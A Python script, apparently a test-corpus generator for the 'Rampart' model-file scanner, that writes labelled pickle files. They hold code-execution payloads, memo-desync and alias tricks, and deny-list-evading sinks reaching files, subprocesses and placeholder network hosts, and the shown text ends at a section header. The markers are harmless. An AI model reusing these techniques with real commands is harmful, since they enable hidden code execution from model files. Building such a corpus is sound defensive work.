#!/usr/bin/env python3
"""Rampart scanner benchmark corpus: labelled, deterministic, small model files.

usage: python3 make_corpus.py [OUT_DIR]     (default: the folder of this script)

Writes OUT_DIR/files/** and OUT_DIR/labels.jsonl (one JSON object per line:
path (relative to files/), label malicious|benign|benign_review, category, description).
Needs Python 3.11 + numpy, onnx, safetensors, h5py. No torch/tensorflow/keras: every
PyTorch, Keras and TensorFlow layout is written by hand with zipfile/tarfile/struct.

SAFETY: this script only WRITES bytes. Nothing is unpickled, np.load-ed, torch/joblib/
keras-loaded or executed. Payloads are harmless markers (`touch /tmp/rampart_corpus_marker`),
but treat every `malicious` file as live malware: never load it with a Python loader.

Labels follow Rampart's verdicts (DESIGN.md "Scanner verdicts"):
  malicious      -> expected verdict `malicious` (anything that can reach code execution,
                    file or network access, or a structure built to evade parsers)
  benign         -> expected verdict `safe`
  benign_review  -> expected `review` (allow-listed reconstructors such as numpy/sklearn/joblib,
                    or inert-but-unknown constructs); `malicious` is a false positive
"""
import bz2
import gzip
import io
import json
import lzma
import marshal
import os
import pickle
import shutil
import struct
import sys
import tarfile
import warnings
import zipfile
import zlib

import numpy as np

HERE = os.path.dirname(os.path.abspath(__file__))
OUT = sys.argv[1] if len(sys.argv) > 1 else HERE
FILES = os.path.join(OUT, "files")
DT = (1980, 1, 1, 0, 0, 0)
MARK_FILE = "/tmp/rampart_corpus_marker"
CMD = "touch " + MARK_FILE
PYSRC = "__import__('os').system('touch /tmp/rampart_corpus_marker')"
LABELS = []
warnings.filterwarnings("ignore")


# Verdict policy (see crates/rampart-scan/src/lib.rs): malformed files that are plainly unparseable
# (unsupported version, not JSON, unknown type names) without any out-of-bounds claim are labelled
# "broken" (expected verdict `error`); inert slack bytes are "suspicious" (expected `review`). Files
# whose structure drives a parser outside the data stay "malicious".
RELABEL = {
    "safetensors/non_json.safetensors": "broken", "safetensors/invalid_utf8.safetensors": "broken",
    "safetensors/json_array.safetensors": "broken", "safetensors/hlen_zero.safetensors": "broken",
    "safetensors/unknown_dtype.safetensors": "broken", "safetensors/metadata_non_string.safetensors": "broken",
    "safetensors/negative_offset.safetensors": "broken", "safetensors/gap.safetensors": "suspicious",
    "safetensors/trailing_bytes.safetensors": "suspicious", "gguf/version_0.gguf": "broken",
    "gguf/version_huge.gguf": "broken", "gguf/big_endian_confusion.gguf": "broken",
    "gguf/bad_value_type.gguf": "broken",
    # A model-local function whose body is standard ops, and onnxruntime's built-in contrib domain:
    # nothing native is loaded, so these are plain benign models.
    "onnx/custom_function_domain.onnx": "benign", "onnx/review_com_microsoft.onnx": "benign",
}


def emit(rel, data, label, cat, desc):
    label = RELABEL.get(rel, label)
    assert label in ("malicious", "benign", "benign_review", "broken", "suspicious"), label
    assert all(e["path"] != rel for e in LABELS), rel
    p = os.path.join(FILES, rel)
    os.makedirs(os.path.dirname(p), exist_ok=True)
    with open(p, "wb") as f:
        f.write(data)
    e = {"path": rel, "label": label, "category": cat, "description": desc}
    LABELS.append(e)


def M(rel, data, cat, desc):
    emit(rel, data, "malicious", cat, desc)


def B(rel, data, cat, desc):
    emit(rel, data, "benign", cat, desc)


def R(rel, data, cat, desc):
    emit(rel, data, "benign_review", cat, desc)


# =============================================================== pickle opcode helpers
def proto(p):
    return b"\x80" + bytes([p]) if p >= 2 else b""


def s(x, p=4):
    """push a str, encoded the way protocol p would."""
    b = x.encode()
    if p == 0:
        return b"V" + x.encode("raw_unicode_escape") + b"\n"
    if p >= 4 and len(b) < 256:
        return b"\x8c" + bytes([len(b)]) + b
    return b"X" + struct.pack("<I", len(b)) + b


def sbu(x):
    return s(x, 4)


def bu(x):
    return s(x, 3)


def G(m, n):  # GLOBAL
    return b"c" + m.encode() + b"\n" + n.encode() + b"\n"


def SG(m, n):  # STACK_GLOBAL
    return sbu(m) + sbu(n) + b"\x93"


def tup(items, p):
    """items already pushed bytes -> tuple."""
    if p >= 2 and 1 <= len(items) <= 3:
        return b"".join(items) + {1: b"\x85", 2: b"\x86", 3: b"\x87"}[len(items)]
    if not items:
        return b")" if p >= 1 else b"(t"
    return b"(" + b"".join(items) + b"t"


def call(fn, args, p):
    return fn + tup(args, p) + b"R"


def frame4(body, p=4):
    body += b"."
    return b"\x80" + bytes([p]) + b"\x95" + struct.pack("<Q", len(body)) + body


def i4(n):
    return b"J" + struct.pack("<i", n)


def lst(items, p):
    if p == 0:
        return b"(l" + b"".join(x + b"a" for x in items)
    return b"](" + b"".join(items) + b"e"


# =============================================================== containers
def zbytes(members, compress=zipfile.ZIP_STORED):
    bio = io.BytesIO()
    with zipfile.ZipFile(bio, "w", compression=compress) as zf:
        for name, data in members:
            zi = zipfile.ZipInfo(name, date_time=DT)
            zi.compress_type = compress
            zi.external_attr = 0o644 << 16
            zf.writestr(zi, data)
    return bio.getvalue()


def zip_patch(data, member, fn):
    """fn(buf, local_off, cd_off) patches a member's local header and central directory entry."""
    buf = bytearray(data)
    zf = zipfile.ZipFile(io.BytesIO(data))
    info = [i for i in zf.infolist() if i.filename == member][0]
    local = info.header_offset
    cd_start = zf.start_dir
    pos = cd_start
    cd = None
    while pos < len(buf) and buf[pos:pos + 4] == b"PK\x01\x02":
        nlen, elen, clen = struct.unpack("<HHH", buf[pos + 28:pos + 34])
        name = bytes(buf[pos + 46:pos + 46 + nlen]).decode()
        off = struct.unpack("<I", buf[pos + 42:pos + 46])[0]
        if name == member and off == local:
            cd = pos
        pos += 46 + nlen + elen + clen
    fn(buf, local, cd)
    return bytes(buf)


def tar_bytes(members):
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w", format=tarfile.USTAR_FORMAT) as tf:
        for name, data in members:
            ti = tarfile.TarInfo(name)
            ti.size = len(data)
            ti.mtime = 0
            ti.mode = 0o644
            ti.uid = ti.gid = 0
            ti.uname = ti.gname = "root"
            tf.addfile(ti, io.BytesIO(data))
    return bio.getvalue()


# ---- torch-like data.pkl (protocol 2) written by hand ---------------------------------
def torch_datapkl(tensors, extra=b"", wrap=None, storage="FloatStorage", param=False):
    """tensors: list of (name, key, shape). Mirrors torch.save(state_dict)."""
    out = b"\x80\x02" + G("collections", "OrderedDict") + b"q\x00)Rq\x01("
    for name, key, shape in tensors:
        n = int(np.prod(shape)) if shape else 1
        stride, acc = [], 1
        for d in reversed(shape):
            stride.insert(0, acc)
            acc *= d
        t = G("torch._utils", "_rebuild_tensor_v2")
        t += b"(" + b"(" + bu("storage") + G("torch", storage) + bu(key) + bu("cpu") + i4(n) + b"tQ"
        t += b"K\x00" + b"(" + b"".join(b"K" + bytes([d]) for d in shape) + b"t" + b"(" + b"".join(i4(x) for x in stride) + b"t"
        t += b"\x89" + G("collections", "OrderedDict") + b")R" + b"tR"
        if param:
            t = G("torch._utils", "_rebuild_parameter") + b"(" + t + b"\x88" + G("collections", "OrderedDict") + b")R" + b"tR"
        out += bu(name) + t
    out += extra + b"u"
    if wrap:
        out = wrap(out)
    return out + b"."


def torch_zip(pkl, tensors, archive="archive", extra_members=(), compress=zipfile.ZIP_STORED):
    rng = np.random.default_rng(1)
    members = [(f"{archive}/data.pkl", pkl), (f"{archive}/byteorder", b"little")]
    for _, key, shape in tensors:
        members.append((f"{archive}/data/{key}", rng.standard_normal(int(np.prod(shape))).astype(np.float32).tobytes()))
    members.append((f"{archive}/version", b"3\n"))
    members += list(extra_members)
    return zbytes(members, compress)


def npy(arr, **kw):
    bio = io.BytesIO()
    np.lib.format.write_array(bio, arr, allow_pickle=True, **kw)
    return bio.getvalue()


def npy_with_pickle(pkl, version=(1, 0), fortran=False):
    """object-dtype .npy header followed by a hand-written pickle."""
    d = "{'descr': '|O', 'fortran_order': %s, 'shape': (2,), }" % ("True" if fortran else "False")
    if version == (1, 0):
        hl = 10 + len(d) + 1
        pad = (-hl) % 64
        hdr = (d + " " * pad + "\n").encode()
        return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(hdr)) + hdr + pkl
    hl = 12 + len(d) + 1
    pad = (-hl) % 64
    hdr = (d + " " * pad + "\n").encode("utf8")
    return b"\x93NUMPY" + bytes(version) + struct.pack("<I", len(hdr)) + hdr + pkl


TENS = [("linear.weight", "0", (3, 4)), ("linear.bias", "1", (3,))]


# =============================================================== payload builders
def os_system(p, how="G"):
    fn = SG("os", "system") if how == "SG" else G("os", "system")
    return call(fn, [s(CMD, p)], p)


def payload_pickle(p, how="G"):
    return proto(p) + os_system(p, how) + b"."


def main():
    import onnx  # noqa: F401
    from onnx import TensorProto, helper
    from safetensors.numpy import save as st_save

    if os.path.isdir(FILES):
        shutil.rmtree(FILES)

    # ------------------------------------------------------------------ protocol matrix
    # protocols 0-5 x callable-introducing opcodes
    for p in range(6):
        M(f"pickle/proto/p{p}_global_reduce.pkl", payload_pickle(p), "pickle_protocols",
          f"protocol {p}: GLOBAL os.system + REDUCE")
        M(f"pickle/proto/p{p}_inst.pkl", proto(p) + b"(" + s(CMD, p) + b"ios\nsystem\n.", "pickle_protocols",
          f"protocol {p}: INST os.system (MARK args INST)")
        M(f"pickle/proto/p{p}_obj.pkl", proto(p) + b"(" + G("subprocess", "check_call") + lst([s("touch", p), s(MARK_FILE, p)], p) + b"o.",
          "pickle_protocols", f"protocol {p}: OBJ subprocess.check_call([...])")
    for p in (2, 3, 4, 5):
        # BUILD gadget: allow-listed instance gets a __setstate__ attribute, next BUILD calls it
        body = (G("argparse", "Namespace") + b")\x81" + b"N}" + s("__setstate__", p) + G("os", "system") + b"s\x86b"
                + s(CMD, p) + b"b.")
        M(f"pickle/proto/p{p}_build_setstate.pkl", proto(p) + body, "pickle_opcodes",
          f"protocol {p}: NEWOBJ argparse.Namespace, BUILD slotstate {{'__setstate__': os.system}}, BUILD 'cmd' -> os.system(cmd)")
    for p in (4, 5):
        M(f"pickle/proto/p{p}_stack_global.pkl", frame4(call(SG("posix", "system"), [sbu(CMD)], p), p), "pickle_protocols",
          f"protocol {p}: STACK_GLOBAL posix.system + REDUCE, framed")
        M(f"pickle/proto/p{p}_newobj_ex.pkl",
          frame4(SG("subprocess", "Popen") + b"(" + sbu("touch") + sbu(MARK_FILE) + b"l\x85}\x92" + b"0" + call(SG("os", "system"), [sbu(CMD)], p), p),
          "pickle_opcodes", f"protocol {p}: NEWOBJ_EX subprocess.Popen then STACK_GLOBAL os.system call")
    M("pickle/proto/p2_newobj_popen.pkl", b"\x80\x02" + G("subprocess", "Popen") + lst([bu("touch"), bu(MARK_FILE)], 2) + b"\x85\x81.",
      "pickle_opcodes", "protocol 2: NEWOBJ subprocess.Popen (class __new__ with argv)")
    M("pickle/proto/p4_stack_global_under_p2.pkl", b"\x80\x02" + call(SG("os", "system"), [bu(CMD)], 2) + b".", "pickle_opcodes",
      "STACK_GLOBAL opcode inside a stream that declares PROTO 2")
    M("pickle/proto/no_proto_binstring.pkl", G("os", "system") + b"(T" + struct.pack("<I", len(CMD)) + CMD.encode() + b"tR.",
      "pickle_protocols", "no PROTO, BINSTRING argument (modelscan cannot resolve BINSTRING)")
    M("pickle/proto/p0_string_global.pkl", b"c__builtin__\neval\n(S'" + PYSRC.replace("'", "\\'").encode() + b"'\ntR.", "pickle_protocols",
      "protocol 0: GLOBAL __builtin__.eval (py2 name via fix_imports) with STRING arg")
    M("pickle/proto/p2_short_binstring_module.pkl", b"\x80\x02U\x02osU\x06system\x93U" + bytes([len(CMD)]) + CMD.encode() + b"\x85R.",
      "pickle_opcodes", "STACK_GLOBAL operands pushed with SHORT_BINSTRING (bytes-ish py2 strings)")
    # EXT opcodes
    add_ext = call(G("copyreg", "add_extension"), [bu("os"), bu("system"), b"K\xf0"], 2)
    M("pickle/proto/ext1_registered.pkl", b"\x80\x02" + add_ext + b"." + b"\x80\x02\x82\xf0" + bu(CMD) + b"\x85R.",
      "pickle_opcodes", "pickle 1 calls copyreg.add_extension('os','system',0xf0); pickle 2 uses EXT1 0xf0 + REDUCE")
    M("pickle/proto/ext2_reduce.pkl", b"\x80\x02\x83\x34\x12" + bu(CMD) + b"\x85R.", "pickle_opcodes",
      "EXT2 code 0x1234 (unknown extension) called with REDUCE")
    M("pickle/proto/ext4_reduce.pkl", b"\x80\x02\x84\x78\x56\x34\x12" + bu(CMD) + b"\x85R.", "pickle_opcodes",
      "EXT4 unknown extension called with REDUCE")
    M("pickle/proto/persid_reduce.pkl", b"\x80\x02" + bu("os.system") + b"Q" + bu(CMD) + b"\x85R.", "pickle_opcodes",
      "BINPERSID result (loader-defined object) called with REDUCE")
    M("pickle/proto/p0_persid_reduce.pkl", b"Pos.system\n(V" + CMD.encode() + b"\ntR.", "pickle_opcodes",
      "protocol 0 PERSID result called with REDUCE")

    # ------------------------------------------------------------------ memo tricks
    M("pickle/memo/binput_binget_stackglobal.pkl", frame4(sbu("posix") + b"q\x05" + sbu("system") + b"q\x06" + b"00" + b"h\x05h\x06\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "module/name memoised with BINPUT, popped, fetched with BINGET before STACK_GLOBAL")
    M("pickle/memo/double_binput_desync.pkl",
      frame4(sbu("os") + b"q\x00q\x01" + b"0" + sbu("system") + b"q\x02q\x03" + b"0" + b"h\x01h\x03\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "'os' BINPUT 0 BINPUT 1, 'system' BINPUT 2 BINPUT 3, BINGET 1 BINGET 3 STACK_GLOBAL: look-back parsers record memo[1]=0, memo[3]=2")
    M("pickle/memo/binput_memoize_desync.pkl",
      frame4(sbu("os") + b"q\x07\x94" + b"0" + sbu("system") + b"\x94" + b"0" + b"h\x01h\x02\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "BINPUT 7 then MEMOIZE (memo[1]) -- peers record memo[len]=7")
    M("pickle/memo/long_binget.pkl",
      frame4(sbu("subprocess") + b"r\x10\x27\x00\x00" + sbu("getoutput") + b"r\x11\x27\x00\x00" + b"00" + b"j\x10\x27\x00\x00j\x11\x27\x00\x00\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "LONG_BINPUT/LONG_BINGET at index 10000 for STACK_GLOBAL operands")
    M("pickle/memo/callable_in_memo.pkl",
      b"\x80\x02" + G("os", "system") + b"q\x01" + b"0" + b"}" + bu("a") + bu("b") + b"s" + b"0" + b"h\x01" + bu(CMD) + b"\x85R.",
      "pickle_memo_tricks", "os.system stored in memo, popped, later BINGET + REDUCE")
    M("pickle/memo/p0_put_get.pkl", b"cposix\nsystem\np0\n0(dp1\n0g0\n(V" + CMD.encode() + b"\ntR.", "pickle_memo_tricks",
      "protocol 0 PUT/GET of the callable across a POP")
    M("pickle/memo/dup_callable.pkl", b"\x80\x02" + G("os", "system") + b"2" + bu("true") + b"\x85R0" + bu(CMD) + b"\x85R.",
      "pickle_memo_tricks", "DUP of the callable, called twice")
    M("pickle/memo/stackglobal_computed_operand.pkl",
      frame4(call(SG("_codecs", "decode"), [b"C\x05posix", sbu("latin1")], 4) + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "STACK_GLOBAL module operand computed by _codecs.decode(b'posix','latin1')")
    M("pickle/memo/memo_overwrite.pkl",
      frame4(sbu("builtins") + b"q\x01" + b"0" + sbu("posix") + b"q\x01" + b"0" + b"h\x01" + sbu("system") + b"\x93" + sbu(CMD) + b"\x85R"),
      "pickle_memo_tricks", "memo slot 1 written twice (builtins then posix); last write wins")
    M("pickle/memo/payload_inside_dict_value.pkl",
      b"\x80\x02}(" + bu("weights") + b"]" + bu("optimizer") + call(G("os", "system"), [bu(CMD)], 2) + b"u.",
      "pickle_memo_tricks", "payload nested as a dict value next to plain data")
    M("pickle/memo/payload_in_set_items.pkl",
      frame4(b"\x8f(" + call(SG("os", "system"), [sbu(CMD)], 4) + b"\x90", 4), "pickle_memo_tricks",
      "payload inside EMPTY_SET/ADDITEMS")
    M("pickle/memo/payload_in_frozenset.pkl",
      frame4(b"(" + call(SG("subprocess", "getstatusoutput"), [sbu(CMD)], 4) + b"\x91", 4), "pickle_memo_tricks",
      "payload inside FROZENSET")

    # ------------------------------------------------------------------ dotted names and aliases
    for name, (m, n) in {
        "posixpath_os_system": ("posixpath", "os.system"),
        "argparse_os_system": ("argparse", "_os.system"),
        "random_os_popen": ("random", "_os.popen"),
        "tempfile_os_system": ("tempfile", "_os.system"),
        "shutil_os_system": ("shutil", "os.system"),
        "os_path_os_system": ("os.path", "os.system"),
        "pathlib_os_popen": ("pathlib", "os.popen"),
        "logging_os_system": ("logging", "os.system"),
        "builtins_import_os": ("builtins", "__import__"),
    }.items():
        if n == "__import__":
            M(f"pickle/dotted/{name}.pkl", frame4(call(SG(m, n), [sbu("os")], 4) + b"0" + call(SG("os", "system"), [sbu(CMD)], 4)),
              "pickle_dotted_alias", "builtins.__import__('os') then os.system")
            continue
        M(f"pickle/dotted/{name}.pkl", frame4(call(SG(m, n), [sbu(CMD)], 4)), "pickle_dotted_alias",
          f"protocol 4 STACK_GLOBAL('{m}', '{n}') + REDUCE")
    M("pickle/dotted/global_random_os_popen.pkl", b"\x80\x04" + call(G("random", "_os.popen"), [sbu(CMD)], 4) + b".",
      "pickle_dotted_alias", "protocol 4 GLOBAL 'random _os.popen' (dotted GLOBAL, not STACK_GLOBAL)")
    M("pickle/dotted/p5_subprocess_via_os.pkl", frame4(call(SG("os", "popen.__globals__.get"), [sbu("system")], 5) + sbu(CMD) + b"\x85R", 5),
      "pickle_dotted_alias", "protocol 5 STACK_GLOBAL('os', 'popen.__globals__.get')('system')(cmd)")
    M("pickle/dotted/dict_get_vars_import_module.pkl",
      frame4(call(SG("builtins", "dict.get"), [call(SG("builtins", "vars"), [call(SG("importlib", "import_module"), [sbu("os")], 4)], 4), sbu("system")], 4)
             + sbu(CMD) + b"\x85R"),
      "pickle_dotted_alias", "builtins.dict.get(builtins.vars(importlib.import_module('os')), 'system')(cmd)")
    M("pickle/dotted/numpy_prod_attr.pkl",
      frame4(SG("numpy", "prod") + b"N}" + sbu("m") + SG("posixpath", "os.system") + b"s\x86b0" + call(SG("numpy", "prod.m"), [sbu(CMD)], 4)),
      "pickle_dotted_alias", "modelscan #85: BUILD setattr numpy.prod.m = os.system, then STACK_GLOBAL numpy prod.m + REDUCE")
    M("pickle/dotted/commands_popen_p2.pkl", b"\x80\x02" + G("commands", "getoutput") + bu(CMD) + b"\x85R.",
      "pickle_dotted_alias", "py2 alias commands.getoutput (fix_imports maps commands -> subprocess)")
    M("pickle/dotted/commands_Popen_p0.pkl", b"ccommands\nPopen\n((Vtouch\nV" + MARK_FILE.encode() + b"\nltR.", "pickle_dotted_alias",
      "protocol 0 commands.Popen([...]) (py2 alias for subprocess)")
    M("pickle/dotted/copy_reg_reconstructor_abuse.pkl",
      b"\x80\x02" + G("copy_reg", "_reconstructor") + b"(" + G("subprocess", "Popen") + G("__builtin__", "object") + b"N" + b"tR.",
      "pickle_dotted_alias", "copy_reg._reconstructor(subprocess.Popen, object, None) (py2 names)")

    # ------------------------------------------------------------------ getattr / import chains
    gi = call(G("builtins", "getattr"), [call(G("importlib", "import_module"), [bu("os")], 2), bu("system")], 2)
    M("pickle/getattr/getattr_import_module.pkl", b"\x80\x02" + gi + bu(CMD) + b"\x85R.", "pickle_getattr_chain",
      "getattr(importlib.import_module('os'), 'system')(cmd)")
    M("pickle/getattr/getattr_builtins_import.pkl",
      b"\x80\x03" + call(G("builtins", "getattr"), [call(G("builtins", "__import__"), [bu("subprocess")], 3), bu("call")], 3)
      + lst([bu("touch"), bu(MARK_FILE)], 3) + b"\x85R.", "pickle_getattr_chain", "getattr(__import__('subprocess'), 'call')([...])")
    M("pickle/getattr/py2_getattr.pkl", b"c__builtin__\ngetattr\n(c__builtin__\n__import__\n(Vos\ntRVsystem\ntR(V" + CMD.encode() + b"\ntR.",
      "pickle_getattr_chain", "protocol 0 __builtin__.getattr(__builtin__.__import__('os'),'system')(cmd)")
    M("pickle/getattr/attrgetter.pkl",
      b"\x80\x02" + call(call(G("operator", "attrgetter"), [bu("system")], 2), [call(G("importlib", "import_module"), [bu("os")], 2)], 2) + bu(CMD) + b"\x85R.",
      "pickle_getattr_chain", "operator.attrgetter('system')(import_module('os'))(cmd)")
    M("pickle/getattr/methodcaller.pkl",
      frame4(call(call(SG("_operator", "methodcaller"), [sbu("system"), sbu(CMD)], 4), [call(SG("importlib", "import_module"), [sbu("os")], 4)], 4)),
      "pickle_getattr_chain", "_operator.methodcaller('system', cmd)(import_module('os'))")
    M("pickle/getattr/itemgetter_globals.pkl",
      frame4(call(call(SG("operator", "itemgetter"), [sbu("system")], 4), [call(SG("builtins", "vars"), [call(SG("builtins", "__import__"), [sbu("os")], 4)], 4)], 4) + sbu(CMD) + b"\x85R"),
      "pickle_getattr_chain", "operator.itemgetter('system')(vars(__import__('os')))(cmd)")
    M("pickle/getattr/partial.pkl", frame4(call(call(SG("functools", "partial"), [SG("os", "system"), sbu(CMD)], 4), [], 4)),
      "pickle_getattr_chain", "functools.partial(os.system, cmd)()")
    M("pickle/getattr/partial_torch_load.pkl",
      frame4(call(call(SG("functools", "partial"), [SG("torch.serialization", "load"), sbu("/tmp/rampart_corpus_marker.pt")], 4), [], 4)),
      "pickle_getattr_chain", "functools.partial(torch.serialization.load, path)() -- nested loader")
    M("pickle/getattr/resolve_name.pkl", frame4(call(SG("pkgutil", "resolve_name"), [sbu("os:system")], 4) + sbu(CMD) + b"\x85R"),
      "pickle_getattr_chain", "pkgutil.resolve_name('os:system')(cmd)")
    M("pickle/getattr/import_module_only.pkl", frame4(call(SG("importlib", "import_module"), [sbu("antigravity")], 4)),
      "pickle_getattr_chain", "importlib.import_module('antigravity') (import side effect)")
    M("pickle/getattr/reduce_builtins_globals.pkl",
      frame4(call(SG("builtins", "getattr"), [SG("builtins", "globals"), sbu("__self__")], 4) + b"0" + call(SG("builtins", "exec"), [sbu(PYSRC)], 4)),
      "pickle_getattr_chain", "getattr(globals,'__self__') then builtins.exec(src)")

    # ------------------------------------------------------------------ sinks missing from deny-lists
    CODE = marshal.dumps(compile(PYSRC, "<x>", "exec"))
    sinks = [
        ("pathlib_write_text", frame4(call(SG("pathlib", "PosixPath.write_text"), [call(SG("pathlib", "PosixPath"), [sbu(MARK_FILE)], 4), sbu("x")], 4)),
         "pathlib.PosixPath.write_text(PosixPath(path), 'x') -- arbitrary file write"),
        ("pathlib_touch", frame4(call(SG("pathlib", "Path.touch"), [call(SG("pathlib", "Path"), [sbu(MARK_FILE)], 4)], 4)), "pathlib.Path.touch(Path(path))"),
        ("bz2file_truncate", frame4(call(SG("bz2", "BZ2File"), [sbu(MARK_FILE), sbu("w")], 4)), "bz2.BZ2File(path, 'w') truncates a file"),
        ("gzip_open_write", frame4(call(SG("gzip", "open"), [sbu(MARK_FILE), sbu("wb")], 4)), "gzip.open(path, 'wb')"),
        ("numpy_load_pickle", frame4(call(SG("numpy", "load"), [sbu("/tmp/rampart_corpus_marker.npy"), b"N", b"\x88"], 4)),
         "numpy.load(path, None, True) -- loads a second unscanned pickle"),
        ("marshal_function", frame4(call(call(SG("types", "FunctionType"), [call(SG("marshal", "loads"), [b"\x8e" + struct.pack("<Q", len(CODE)) + CODE], 4), b"}"], 4), [], 4)),
         "types.FunctionType(marshal.loads(code), {})() -- code object execution"),
        ("codetype", frame4(SG("types", "CodeType") + b"0" + call(SG("builtins", "exec"), [sbu(PYSRC)], 4)), "types.CodeType global, builtins.exec"),
        ("runpy_run_path", frame4(call(SG("runpy", "run_path"), [sbu("/tmp/rampart_corpus_marker.py")], 4)), "runpy.run_path(path)"),
        ("runpy_run_code", frame4(call(SG("runpy", "_run_code"), [sbu(PYSRC), b"}"], 4)), "runpy._run_code(src, {})"),
        ("pip_main", frame4(call(SG("pip", "main"), [b"](" + sbu("install") + sbu("rampart-corpus-marker") + b"e"], 4)), "pip.main(['install', ...])"),
        ("ensurepip_run_pip", frame4(call(SG("ensurepip", "_run_pip"), [b"](" + sbu("install") + sbu("rampart-corpus-marker") + b"e"], 4)), "ensurepip._run_pip([...])"),
        ("timeit", frame4(call(SG("timeit", "timeit"), [sbu(PYSRC), sbu("pass"), b"\x88", b"K\x01"], 4)), "timeit.timeit(src, 'pass', ..., 1)"),
        ("pydoc_pipepager", frame4(call(SG("pydoc", "pipepager"), [sbu("x"), sbu(CMD)], 4)), "pydoc.pipepager(text, cmd)"),
        ("uuid_get_command_stdout", frame4(call(SG("uuid", "_get_command_stdout"), [sbu("touch"), sbu(MARK_FILE)], 4)), "uuid._get_command_stdout('touch', path)"),
        ("imaplib_imap4_stream", frame4(call(SG("imaplib", "IMAP4_stream"), [sbu(CMD)], 4)), "imaplib.IMAP4_stream(cmd)"),
        ("ctypes_cdll", frame4(call(SG("ctypes", "CDLL"), [sbu("/tmp/rampart_corpus_marker.so")], 4)), "ctypes.CDLL(path)"),
        ("cprofile_run", frame4(call(SG("cProfile", "run"), [sbu(PYSRC)], 4)), "cProfile.run(src)"),
        ("pdb_run", frame4(call(SG("pdb", "run"), [sbu(PYSRC)], 4)), "pdb.run(src)"),
        ("code_interp", frame4(call(SG("code", "InteractiveInterpreter.runsource"), [call(SG("code", "InteractiveInterpreter"), [], 4), sbu(PYSRC)], 4)),
         "code.InteractiveInterpreter().runsource(src)"),
        ("osx_support_read_output", frame4(call(SG("_osx_support", "_read_output"), [sbu(CMD)], 4)), "_osx_support._read_output(cmd)"),
        ("mp_spawnv_passfds", frame4(call(SG("multiprocessing.util", "spawnv_passfds"), [sbu("/usr/bin/touch"), b"](" + sbu("touch") + sbu(MARK_FILE) + b"e", b")"], 4)),
         "multiprocessing.util.spawnv_passfds(path, argv, ())"),
        ("ssl_get_cert", frame4(call(SG("ssl", "get_server_certificate"), [b"(" + sbu("rampart-corpus-marker.invalid") + b"M\xbb\x01t"], 4)), "ssl.get_server_certificate((host, 443)) -- network"),
        ("socket_connect", frame4(call(SG("socket", "create_connection"), [b"(" + sbu("rampart-corpus-marker.invalid") + b"KPt"], 4)), "socket.create_connection -- network"),
        ("urllib_urlopen", frame4(call(SG("urllib.request", "urlopen"), [sbu("http://rampart-corpus-marker.invalid/")], 4)), "urllib.request.urlopen(url)"),
        ("webbrowser_open", frame4(call(SG("webbrowser", "open"), [sbu("http://rampart-corpus-marker.invalid/")], 4)), "webbrowser.open(url)"),
        ("shutil_rmtree", frame4(call(SG("shutil", "rmtree"), [sbu("/tmp/rampart_corpus_marker_dir")], 4)), "shutil.rmtree(path)"),
        ("os_execvp", frame4(call(SG("os", "execvp"), [sbu("touch"), b"](" + sbu("touch") + sbu(MARK_FILE) + b"e"], 4)), "os.execvp"),
        ("pickle_loads_nested", frame4(call(SG("pickle", "loads"), [b"C" + bytes([len(payload_pickle(2))]) + payload_pickle(2)], 4)), "pickle.loads(nested payload pickle)"),
        ("builtins_open_write", frame4(call(SG("builtins", "open"), [sbu(MARK_FILE), sbu("w")], 4)), "builtins.open(path, 'w')"),
        ("builtins_compile_exec", frame4(call(SG("builtins", "exec"), [call(SG("builtins", "compile"), [sbu(PYSRC), sbu("<x>"), sbu("exec")], 4)], 4)), "exec(compile(src))"),
        ("numpy_testing_runstring", frame4(call(SG("numpy.testing._private.utils", "runstring"), [sbu(PYSRC), b"}"], 4)), "numpy.testing._private.utils.runstring(src, {})"),
        ("torch_hub_load", frame4(call(SG("torch.hub", "load"), [sbu("rampart/corpus-marker"), sbu("model")], 4)), "torch.hub.load(repo, model) -- remote code"),
        ("torch_collect_env_run", frame4(call(SG("torch.utils.collect_env", "run"), [sbu(CMD)], 4)), "torch.utils.collect_env.run(cmd)"),
        ("logging_filehandler", frame4(call(SG("logging", "FileHandler"), [sbu(MARK_FILE)], 4)), "logging.FileHandler(path) creates a file"),
        ("pandas_read_csv_url", frame4(call(SG("pandas", "read_csv"), [sbu("http://rampart-corpus-marker.invalid/x.csv")], 4)), "pandas.read_csv(url) -- network fetch"),
        ("asyncio_subprocess", frame4(call(SG("asyncio.subprocess", "create_subprocess_shell"), [sbu(CMD)], 4)), "asyncio.subprocess.create_subprocess_shell(cmd)"),
        ("sys_modules_setitem", frame4(call(SG("builtins", "setattr"), [SG("sys", "modules"), sbu("x"), b"N"], 4)), "builtins.setattr on sys.modules"),
    ]
    for name, data, desc in sinks:
        M(f"pickle/sinks/{name}.pkl", data, "pickle_sinks", desc)

    # ------------------------------------------------------------------ broken streams
    pay = b"\x80\x02" + G("posix", "system") + bu(CMD) + b"\x85R"
    M("pickle/broken/invalid_opcode.pkl", pay + b"\xfe\xfe", "pickle_broken_stream", "payload runs, then invalid opcode")
    M("pickle/broken/no_stop.pkl", pay, "pickle_broken_stream", "payload, then EOF without STOP")
    M("pickle/broken/truncated_string.pkl", pay + b"X\xff\xff\x00\x00abc", "pickle_broken_stream", "payload, then BINUNICODE whose length runs past EOF")
    M("pickle/broken/stack_underflow.pkl", pay + b"0000R.", "pickle_broken_stream", "payload, then POPs/REDUCE on an empty stack")
    M("pickle/broken/bad_frame.pkl", b"\x80\x04\x95" + struct.pack("<Q", 2**40) + call(SG("os", "system"), [sbu(CMD)], 4) + b".",
      "pickle_broken_stream", "FRAME declaring 2^40 bytes around a payload")
    M("pickle/broken/garbage_after_stop.pkl", payload_pickle(2) + os.urandom(0) + bytes(range(200, 256)) * 4, "pickle_broken_stream",
      "complete payload pickle followed by binary garbage")
    M("pickle/broken/nullifai_7z_prefix.pkl", pay + b"7z\xbc\xaf\x27\x1c", "pickle_broken_stream",
      "nullifAI-style: payload then bytes of a 7z signature (stream never completes)")
    M("pickle/broken/bad_unicode_after.pkl", pay + b"X\x02\x00\x00\x00\xff\xfe.", "pickle_broken_stream", "payload, then invalid UTF-8 in BINUNICODE")

    # ------------------------------------------------------------------ several pickles in one stream
